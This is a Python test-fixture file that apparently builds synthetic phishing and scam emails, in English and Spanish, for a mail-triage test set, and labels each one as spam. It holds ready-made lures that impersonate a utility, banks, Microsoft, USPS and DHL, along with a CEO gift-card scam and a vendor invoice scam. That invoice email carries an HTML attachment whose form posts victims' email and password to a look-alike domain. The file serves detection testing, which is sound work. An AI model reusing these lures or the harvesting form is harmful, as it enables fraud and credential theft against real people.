"""Non-requests, part 3: phishing and scams (English and Spanish)."""
from ours import CC, PH

SPECS = []


def A(**kw):
    kw.setdefault("automated", True)
    SPECS.append(kw)


A(id="p01", mailbox="customercare", cat="auto:phish-alliant-refund", lang="en", client="phish",
  frm=("Alliant Energy", "billing@alliantenergy-billpay.com"), to=[(None, CC)],
  subject="Refund Notice: You were overcharged $148.22", date="2025-06-17 03:41", tz="+0300",
  spf="pass", dmarc="none", dkim_d=None, smtp_host="mail.alliantenergy-billpay.com", fmt="html",
  charset="windows-1252", cte="quoted-printable", dmarc_policy="p=NONE",
  html="""<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1252"></head>
<body style="font-family:Arial;font-size:14px">
<div style="background:#00466a;padding:12px"><span style="color:#fff;font-size:22px;font-weight:bold">Alliant Energy</span></div>
<p>Dear Valued Customer,</p>
<p>After the annual review of your account we determined that you were overcharged <b>$148.22</b> on your last billing cycle. You are eligible to receive a refund.</p>
<p>To receive your refund please confirm your billing details within <b>48 hours</b>. After this time the refund will be cancelled.</p>
<p style="text-align:center"><a href="http://alliantenergy-billpay.com/refund/verify?id=88412" style="background:#f7a800;color:#000;padding:12px 30px;text-decoration:none;font-weight:bold">CLAIM REFUND</a></p>
<p>Thank you for being our valued customer.</p>
<p>Alliant Energy Billing Department<br>© 2025 Alliant Energy Corporation. All rights reserved.</p>
<p style="font-size:10px;color:#888">This is an automatic message, please don’t reply. If you wish to unsubscribe from billing notifications <a href="http://alliantenergy-billpay.com/unsub">click here</a>.</p>
</body></html>
""",
  note="Phishing impersonating Alliant billing from a look-alike domain (refund lure, windows-1252 HTML); spam")

A(id="p02", mailbox="customercare", cat="auto:phish-bank", lang="en", client="phish",
  frm=("Heartland Federal Credit Union", "security-alert@hfcu-secure-login.com"), to=[(None, CC)],
  subject="Unusual sign-in activity on your account", date="2026-02-09 22:17", tz="-0500",
  spf="softfail", dmarc="fail", smtp_host="srv1.cloudpanel-hosting.net", fmt="alt",
  body="""Heartland Federal Credit Union

We detected an unusual sign-in attempt to your online banking account.

Location: Lagos, Nigeria
Device: Windows 10 / Chrome
Time: 02/09/2026 09:44 PM

If this was not you, your account will be restricted. Please verify your identity
immediately to avoid suspension:

https://hfcu-secure-login.com/verify

Heartland Federal Credit Union Security Team
Federally insured by NCUA
""",
  html="""<html><body style="font-family:Verdana,sans-serif;font-size:13px">
<p><img src="http://hfcu-secure-login.com/img/logo.gif" alt="Heartland Federal Credit Union"></p>
<p>We detected an <b>unusual sign-in attempt</b> to your online banking account.</p>
<table style="border:1px solid #ccc;padding:8px"><tr><td>Location:</td><td>Lagos, Nigeria</td></tr>
<tr><td>Device:</td><td>Windows 10 / Chrome</td></tr><tr><td>Time:</td><td>02/09/2026 09:44 PM</td></tr></table>
<p>If this was not you, your account will be restricted. Please verify your identity immediately to avoid suspension:</p>
<p><a href="https://hfcu-secure-login.com/verify">Verify My Identity</a></p>
<p>Heartland Federal Credit Union Security Team<br>Federally insured by NCUA</p>
</body></html>
""",
  note="Bank credential phishing sent to our role address; spam, nobody asking us anything")

A(id="p03", mailbox="customercare", cat="auto:phish-microsoft", lang="en", client="phish",
  frm=("Microsoft 365 Admin", "no-reply@m365-mailadmin.com"), to=[(None, CC)],
  subject="Password for customercare@alliant-energy.com expires today", date="2025-09-04 05:12", tz="+0000",
  spf="pass", dmarc="none", dmarc_policy="p=NONE", smtp_host="mail.m365-mailadmin.com", fmt="html", cte="base64",
  phish_mailer=None,
  html="""<!DOCTYPE html><html><head><meta charset="utf-8"></head><body style="font-family:Segoe UI,Tahoma,sans-serif;">
<table width="100%" style="max-width:520px;border:1px solid #e1e1e1"><tr><td style="padding:20px">
<div style="font-size:20px;color:#0078d4">Microsoft 365</div>
<p style="font-size:15px">Password expiry notice</p>
<p>The password for <b>customercare@alliant-energy.com</b> expires today <b>9/4/2025</b>.</p>
<p>To keep using your current password and avoid losing access to your mailbox, confirm it below.</p>
<p><a href="https://m365-mailadmin.com/owa/keep?u=customercare%40alliant-energy.com" style="background:#0078d4;color:#fff;padding:10px 22px;text-decoration:none">Keep Current Password</a></p>
<p style="font-size:11px;color:#777">Microsoft Corporation, One Microsoft Way, Redmond, WA 98052<br>This message was sent from an unmonitored e-mail address. Please do not reply to this message.</p>
</td></tr></table></body></html>
""",
  note="Microsoft 365 password-expiry phishing (base64 HTML only) aimed at the shared mailbox itself; spam")

A(id="p04", mailbox="powerhousecatalog", cat="auto:phish-delivery", lang="en", client="phish",
  frm=("USPS Delivery", "tracking@usps-redelivery-center.com"), to=[(None, PH)],
  subject="Your package is on hold - action required (USPS)", date="2025-12-08 14:55", tz="+0800",
  spf="none", dmarc="none", dmarc_policy="p=NONE", smtp_host="mx.usps-redelivery-center.com", fmt="alt",
  body="""USPS

Your package could not be delivered on 12/08/2025 because the address is incomplete.

Tracking number: 9400 1118 9922 3645 0187 22

Please confirm your address and pay the redelivery fee ($1.99) within 24 hours or the
package will be returned to sender:

http://usps-redelivery-center.com/track?id=940011189922

Thank you for using USPS.
""",
  html="""<html><body style="font-family:Arial">
<div style="background:#333366;color:#fff;padding:10px;font-weight:bold;font-size:20px">USPS</div>
<p>Your package could not be delivered on <b>12/08/2025</b> because the address is incomplete.</p>
<p>Tracking number: <b>9400 1118 9922 3645 0187 22</b></p>
<p>Please confirm your address and pay the redelivery fee (<b>$1.99</b>) within 24 hours or the package will be returned to sender.</p>
<p><a href="http://usps-redelivery-center.com/track?id=940011189922" style="background:#e71921;color:#fff;padding:10px 20px;text-decoration:none">Schedule Redelivery</a></p>
<p style="font-size:10px">Thank you for using USPS.</p></body></html>
""",
  note="Parcel-redelivery phishing to the catalog mailbox (a shop does expect packages); spam")

A(id="p05", mailbox="customercare", cat="auto:phish-alliant-es", lang="es", client="phish",
  frm=("Alliant Energy Atención al Cliente", "aviso@alliant-energia-pagos.com"), to=[(None, CC)],
  subject="Aviso de desconexión: su servicio será suspendido hoy", date="2025-08-26 06:02", tz="-0600",
  spf="softfail", dmarc="fail", smtp_host="server.hostmx-planes.com", fmt="alt", charset="iso-8859-1",
  cte="quoted-printable", hdr_cs="iso-8859-1", hdr_mode="Q",
  body="""Estimado cliente:

Su cuenta de Alliant Energy presenta un saldo vencido de $287.40. Si no realiza el pago hoy antes de las 5:00 p.m., su servicio de electricidad será desconectado y se aplicará un cargo de reconexión de $150.

Para evitar la desconexión, pague ahora con tarjeta de débito o crédito:

http://alliant-energia-pagos.com/pago-inmediato

Si ya realizó su pago, ignore este mensaje.

Departamento de Cobranza
Alliant Energy
""",
  html="""<html><body style="font-family:Arial;font-size:14px">
<p><b style="color:#00466a;font-size:20px">Alliant Energy</b></p>
<p>Estimado cliente:</p>
<p>Su cuenta de Alliant Energy presenta un saldo vencido de <b>$287.40</b>. Si no realiza el pago <b>hoy antes de las 5:00 p.m.</b>, su servicio de electricidad será desconectado y se aplicará un cargo de reconexión de $150.</p>
<p><a href="http://alliant-energia-pagos.com/pago-inmediato" style="background:#c00;color:#fff;padding:10px 20px;text-decoration:none">PAGAR AHORA</a></p>
<p>Si ya realizó su pago, ignore este mensaje.</p>
<p>Departamento de Cobranza<br>Alliant Energy</p></body></html>
""",
  note="Spanish disconnection-threat phishing pretending to be Alliant (iso-8859-1, look-alike domain); spam")

A(id="p06", mailbox="customercare", cat="auto:phish-bank-es", lang="es", client="phish",
  frm=("Banco del Valle", "notificaciones@bancodelvalle-seguridad.com"), to=[(None, CC)],
  subject="Su cuenta ha sido bloqueada temporalmente", date="2026-04-21 09:33", tz="-0500",
  spf="fail", dmarc="fail", smtp_host="mail.seguridad-clientes.info", fmt="html", charset="utf-8",
  cte="quoted-printable",
  html="""<html><head><meta charset="utf-8"></head><body style="font-family:Tahoma,sans-serif;font-size:14px">
<p><b>Banco del Valle</b> | Banca en Línea</p>
<p>Estimado(a) cliente:</p>
<p>Por motivos de seguridad, su cuenta ha sido <b>bloqueada temporalmente</b> debido a varios intentos fallidos de acceso.</p>
<p>Para desbloquearla, debe actualizar sus datos en las próximas 24 horas. De lo contrario, su cuenta será cancelada de forma permanente.</p>
<p><a href="https://bancodelvalle-seguridad.com/desbloqueo">Actualizar mis datos</a></p>
<p>Atentamente,<br>Área de Seguridad<br>Banco del Valle</p>
<p style="font-size:10px;color:#999">Este correo fue generado automáticamente. Por favor no responda.</p>
</body></html>
""",
  note="Spanish bank 'account blocked' phishing (HTML only); spam")

A(id="p07", mailbox="powerhousecatalog", cat="auto:phish-delivery-es", lang="es", client="phish",
  frm=("DHL Express", "envios@dhl-aduanas-mx.com"), to=[(None, PH)],
  subject="Su envío está retenido en aduana - pago pendiente", date="2026-06-15 11:20", tz="-0600",
  spf="none", dmarc="none", dmarc_policy="p=NONE", smtp_host="vps-4471.servidoreswebs.mx", fmt="plain", no_msgid=True,
  charset="utf-8", cte="8bit",
  body="""DHL Express

Estimado cliente,

Su envío con número de guía 4471 2290 18 está retenido en la aduana porque faltan impuestos de importación por $3.45 USD.

Para liberar su paquete realice el pago en el siguiente enlace antes de 48 horas:
https://dhl-aduanas-mx.com/pago?g=4471229018

Si no se recibe el pago, el paquete será devuelto al remitente.

Gracias por elegir DHL Express.
""",
  note="Spanish customs-fee delivery phishing (8bit UTF-8 plain text) to the catalog mailbox; spam")

A(id="p08", mailbox="customercare", cat="auto:phish-microsoft-es", lang="es", client="phish",
  frm=("Soporte Técnico de Microsoft Outlook", "soporte@outlook-verificacion.net"), to=[(None, CC)],
  subject="Su buzón de correo está lleno (99%)", date="2025-10-30 02:48", tz="+0100",
  spf="softfail", dmarc="none", dmarc_policy="p=NONE", smtp_host="host.outlook-verificacion.net", fmt="alt",
  charset="utf-8", cte="base64", hdr_mode="B",
  body="""Estimado usuario customercare@alliant-energy.com,

Su buzón de correo ha alcanzado el 99% de su capacidad (49.5 GB de 50 GB). Los mensajes nuevos serán rechazados a partir de hoy.

Haga clic a continuación para obtener 50 GB adicionales gratis:
https://outlook-verificacion.net/almacenamiento?u=customercare

Equipo de Soporte de Microsoft
""",
  html="""<html><body style="font-family:Segoe UI,Arial">
<p style="color:#0078d4;font-size:18px">Microsoft Outlook</p>
<p>Estimado usuario <b>customercare@alliant-energy.com</b>,</p>
<p>Su buzón de correo ha alcanzado el <b>99%</b> de su capacidad (49.5 GB de 50 GB). Los mensajes nuevos serán rechazados a partir de hoy.</p>
<div style="width:300px;background:#ddd"><div style="width:297px;background:#d13438;height:12px"></div></div>
<p><a href="https://outlook-verificacion.net/almacenamiento?u=customercare">Obtener más almacenamiento</a></p>
<p>Equipo de Soporte de Microsoft</p></body></html>
""",
  note="Spanish 'mailbox full' Microsoft phishing (base64 parts) aimed at the shared mailbox; spam")

A(id="p09", mailbox="customercare", cat="auto:phish-privacy-portal", lang="en", client="phish",
  frm=("PrivacyDesk Notifications", "notify@privacydesk-portal.com"), to=[(None, CC)],
  subject="3 pending data subject requests - response due in 48 hours", date="2026-08-11 13:05", tz="+0000",
  spf="pass", dmarc="none", dmarc_policy="p=NONE", smtp_host="out.privacydesk-portal.com", fmt="alt",
  phish_mailer=None,
  body="""PrivacyDesk

You have 3 pending data subject requests for alliant-energy.com:

  DSR-88120  Do Not Sell/Share      received 08/07/2026
  DSR-88127  Delete my data         received 08/08/2026
  DSR-88131  Opt out of marketing   received 08/09/2026

Regulations require a response within the statutory deadline. Sign in with your
Microsoft 365 account to review and respond:

https://privacydesk-portal.com/login?tenant=alliant-energy

PrivacyDesk Compliance Cloud
""",
  html="""<html><body style="font-family:Helvetica,Arial,sans-serif;font-size:14px;color:#222">
<h2 style="color:#4b2a85">PrivacyDesk</h2>
<p>You have <b>3 pending data subject requests</b> for alliant-energy.com:</p>
<table cellpadding="6" style="border-collapse:collapse;border:1px solid #ccc">
<tr><td>DSR-88120</td><td>Do Not Sell/Share</td><td>08/07/2026</td></tr>
<tr><td>DSR-88127</td><td>Delete my data</td><td>08/08/2026</td></tr>
<tr><td>DSR-88131</td><td>Opt out of marketing</td><td>08/09/2026</td></tr></table>
<p>Regulations require a response within the statutory deadline. Sign in with your Microsoft 365 account to review and respond:</p>
<p><a href="https://privacydesk-portal.com/login?tenant=alliant-energy" style="background:#4b2a85;color:#fff;padding:10px 20px;text-decoration:none">Review requests</a></p>
<p style="font-size:11px;color:#888">PrivacyDesk Compliance Cloud</p></body></html>
""",
  note="Credential phishing dressed as a privacy-request portal listing 'Do Not Sell', 'Delete my data', 'Opt out'; the words of requests, but spam")

A(id="p10", mailbox="customercare", cat="auto:scam-ceo-giftcard", lang="en", client="gmail",
  frm=("David de Leon", "ddeleon.office.ceo@gmail.com"), to=[(None, CC)],
  subject="Are you available?", date="2025-12-15 08:27", fmt="alt",
  body="""Are you at your desk? I need you to handle a task for me discreetly. I'm in a meeting and can only reply by email.

Regards
David de Leon

Sent from my iPhone
""",
  note="CEO-impersonation gift-card scam from a free-mail account ('are you available?'); spam")

A(id="p11", mailbox="powerhousecatalog", cat="auto:phish-invoice-attachment", lang="en", client="phish",
  frm=("Lakeside Print Group Accounts Receivable", "ar@lakesideprint-billing.com"), to=[(None, PH)],
  subject="Overdue invoice INV-22731 - second notice", date="2026-04-02 16:44", tz="-0400",
  spf="pass", dmarc="none", dmarc_policy="p=NONE", smtp_host="mail.lakesideprint-billing.com", fmt="plain",
  charset="us-ascii", phish_mailer="Microsoft Outlook 16.0",
  body="""Hello,

Our records show invoice INV-22731 ($18,426.00) for the Spring catalog print run is now 30 days past due.

Please review the attached invoice and remittance details. Note that our bank details have changed; please use the new account shown in the attachment for this and future payments.

Kind regards,
Accounts Receivable
Lakeside Print Group
""",
  attach=[dict(name="INV-22731.html", ctype="text/html", cte="base64",
               data="<html><body><script>document.write(atob('PGZvcm0+'))</script><h3>Lakeside Print Group</h3>"
                    "<p>To view your invoice please sign in with your e-mail account.</p>"
                    "<form action='https://lakesideprint-billing.com/p.php' method='post'>E-mail <input name='e'> "
                    "Password <input type='password' name='p'> <input type='submit' value='View invoice'></form>"
                    "</body></html>")],
  note="Vendor-impersonation invoice scam with a changed-bank-details story and an HTML credential-harvest attachment; spam")
